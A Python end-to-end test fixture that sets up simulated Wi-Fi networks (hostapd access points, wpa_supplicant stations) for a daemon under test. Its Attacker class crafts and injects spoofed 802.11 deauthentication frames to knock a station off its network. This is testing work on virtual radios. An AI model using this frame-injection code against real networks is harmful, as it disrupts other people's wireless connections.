"""What is in the guest's air: three networks of a real hostapd, stations of a real wpa_supplicant, and an attacker."""

from __future__ import annotations

import re
import socket
import struct
import subprocess
import time
from pathlib import Path
from typing import NamedTuple

from tests.e2e.guest import hwsim
from tests.vm.guest.checks import run, wait_for

RADIO = "adapter"
"""Name of the radio that is the daemon's."""
ATTACKER = "wlan4"
_SECRET = "only-for-this-test"
_FOLDER = Path("/run/air")
_REASON = 7  # class 3 frame from a nonassociated station


class Network(NamedTuple):
    """One network, and what the survey has to say of it."""

    ssid: str
    interface: str
    channel: int
    security: str
    pmf: str
    station: str = ""
    """Interface of the station that uses it."""


PERSONAL = Network("tideline", "wlan0", 6, "WPA2-Personal", "none", "wlan2")
OPEN = Network("foreshore", "wlan0_1", 6, "open", "none")
SAE = Network("saltmarsh", "wlan1", 36, "WPA3-Personal", "required", "wlan3")
NETWORKS = (PERSONAL, OPEN, SAE)

_HOSTAPD = {
    "low": f"""interface={PERSONAL.interface}
driver=nl80211
country_code=DE
hw_mode=g
channel={PERSONAL.channel}
beacon_int=50
ssid={PERSONAL.ssid}
wpa=2
wpa_key_mgmt=WPA-PSK
rsn_pairwise=CCMP
wpa_passphrase={_SECRET}
bss={OPEN.interface}
ssid={OPEN.ssid}
""",
    "high": f"""interface={SAE.interface}
driver=nl80211
country_code=DE
hw_mode=a
channel={SAE.channel}
beacon_int=50
ssid={SAE.ssid}
wpa=2
wpa_key_mgmt=SAE
rsn_pairwise=CCMP
ieee80211w=2
sae_password={_SECRET}
""",
}
_SUPPLICANT = {  # scan_freq spares a station the scan of every channel
    PERSONAL: f'ssid="{PERSONAL.ssid}"\npsk="{_SECRET}"\nscan_freq=2437\n',
    SAE: f'ssid="{SAE.ssid}"\nkey_mgmt=SAE\nsae_password="{_SECRET}"\nieee80211w=2\nscan_freq=5180\n',
}


_running: list[subprocess.Popen[bytes]] = []


def fill() -> None:
    """Start access points and stations. The daemon's radio is not there yet."""
    for module in ("ccm", "ctr", "cmac", "gcm", "af_packet"):
        run("modprobe", module)
    run("modprobe", "mac80211_hwsim", "radios=5")
    run("iw", "reg", "set", "DE")
    _FOLDER.mkdir()
    for name, text in _HOSTAPD.items():
        (_FOLDER / f"{name}.conf").write_text(text)
    _start("hostapd", *(str(_FOLDER / f"{name}.conf") for name in _HOSTAPD))
    for network, text in _SUPPLICANT.items():
        config = _FOLDER / f"{network.station}.conf"
        config.write_text(f"ctrl_interface={_FOLDER}/control\nnetwork={{\n{text}}}\n")
        _start("wpa_supplicant", "-i", network.station, "-D", "nl80211", "-c", str(config), "-f", str(_log(network)))


def clear() -> None:
    """End them."""
    for process in _running:
        process.terminate()
        process.wait()


def plug_in_radio() -> None:
    """Give the daemon its radio."""
    hwsim.plug_in(RADIO)


def pull_out_radio() -> None:
    """Take it away."""
    hwsim.pull_out(RADIO)


def address(interface: str) -> str:
    """Return the hardware address of an interface."""
    return Path(f"/sys/class/net/{interface}/address").read_text().strip()


def connected(network: Network) -> bool:
    """Tell whether the station is connected, as the kernel tells it."""
    return "Connected to" in run("iw", "dev", network.station, "link")


def times_thrown_out(network: Network) -> int:
    """Return how often the station was disconnected for the reason that the attacker gives."""
    return (
        _log(network).read_text().count(f"CTRL-EVENT-DISCONNECTED bssid={address(network.interface)} reason={_REASON}")
    )


def join_again(network: Network) -> None:
    """Have the station leave the network and join it: another handshake."""
    for command in ("disconnect", "reconnect"):
        run("wpa_cli", "-p", str(_FOLDER / "control"), "-i", network.station, command)
        if command == "disconnect":
            wait_for(f"{network.station} to leave", lambda: not connected(network), 60)
    wait_for(f"{network.station} to join {network.ssid}", lambda: connected(network), 60)


def talk(network: Network) -> None:
    """Have the station send data for two seconds, in which a radio that hops comes by."""
    own, peer = (bytes.fromhex(address(name).replace(":", "")) for name in (network.station, network.interface))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((network.station, 0))
        for _ in range(40):
            sock.send(peer + own + b"\x88\xb5" + bytes(64))  # local experimental ethertype
            time.sleep(0.05)


def interfaces() -> dict[str, str]:
    """Return the type of every wireless interface, as ``iw dev`` tells it."""
    return dict(re.findall(r"Interface (\S+).*?type (\S+)", run("iw", "dev"), re.DOTALL))


class Attacker:
    """A radio that disconnects a station of a network from it, as the well-known tools do."""

    def __init__(self, victim: Network) -> None:
        run("ip", "link", "set", ATTACKER, "down")
        run("iw", "dev", ATTACKER, "set", "type", "monitor")
        run("ip", "link", "set", ATTACKER, "up")
        run("iw", "dev", ATTACKER, "set", "channel", str(victim.channel))
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._socket.bind((ATTACKER, 0))
        self._frames = _deauthentications(address(victim.interface), address(victim.station))
        self._sequence = 0

    def attack(self, bursts: int, pause: float) -> int:
        """Send bursts of 16 frames in each direction, `pause` seconds apart; return how many frames."""
        for _ in range(bursts):
            for _ in range(16):
                for frame in self._frames:
                    self._sequence = (self._sequence + 1) % 4096
                    self._socket.send(frame.replace(b"\xee\xee", struct.pack("<H", self._sequence << 4), 1))
            time.sleep(pause)
        return bursts * 16 * len(self._frames)

    def close(self) -> None:
        """Be silent."""
        self._socket.close()
        run("ip", "link", "set", ATTACKER, "down")


def _deauthentications(access_point: str, station: str) -> tuple[bytes, bytes]:
    """Return deauthentication frames in each's name to the other, with 0xEEEE for their sequence control."""
    ap, client = (bytes.fromhex(text.replace(":", "")) for text in (access_point, station))
    radiotap = struct.pack("<BBHI", 0, 0, 8, 0)
    reason = struct.pack("<H", _REASON)
    return tuple(  # type: ignore[return-value]
        radiotap + b"\xc0\x00\x3a\x01" + receiver + sender + ap + b"\xee\xee" + reason
        for receiver, sender in ((client, ap), (ap, client))
    )


def _log(network: Network) -> Path:
    return _FOLDER / f"{network.station}.log"


def _start(*argv: str) -> None:
    with (_FOLDER / f"{Path(argv[0]).name}.log").open("ab") as log:
        _running.append(subprocess.Popen(argv, stdout=log, stderr=log, stdin=subprocess.DEVNULL))
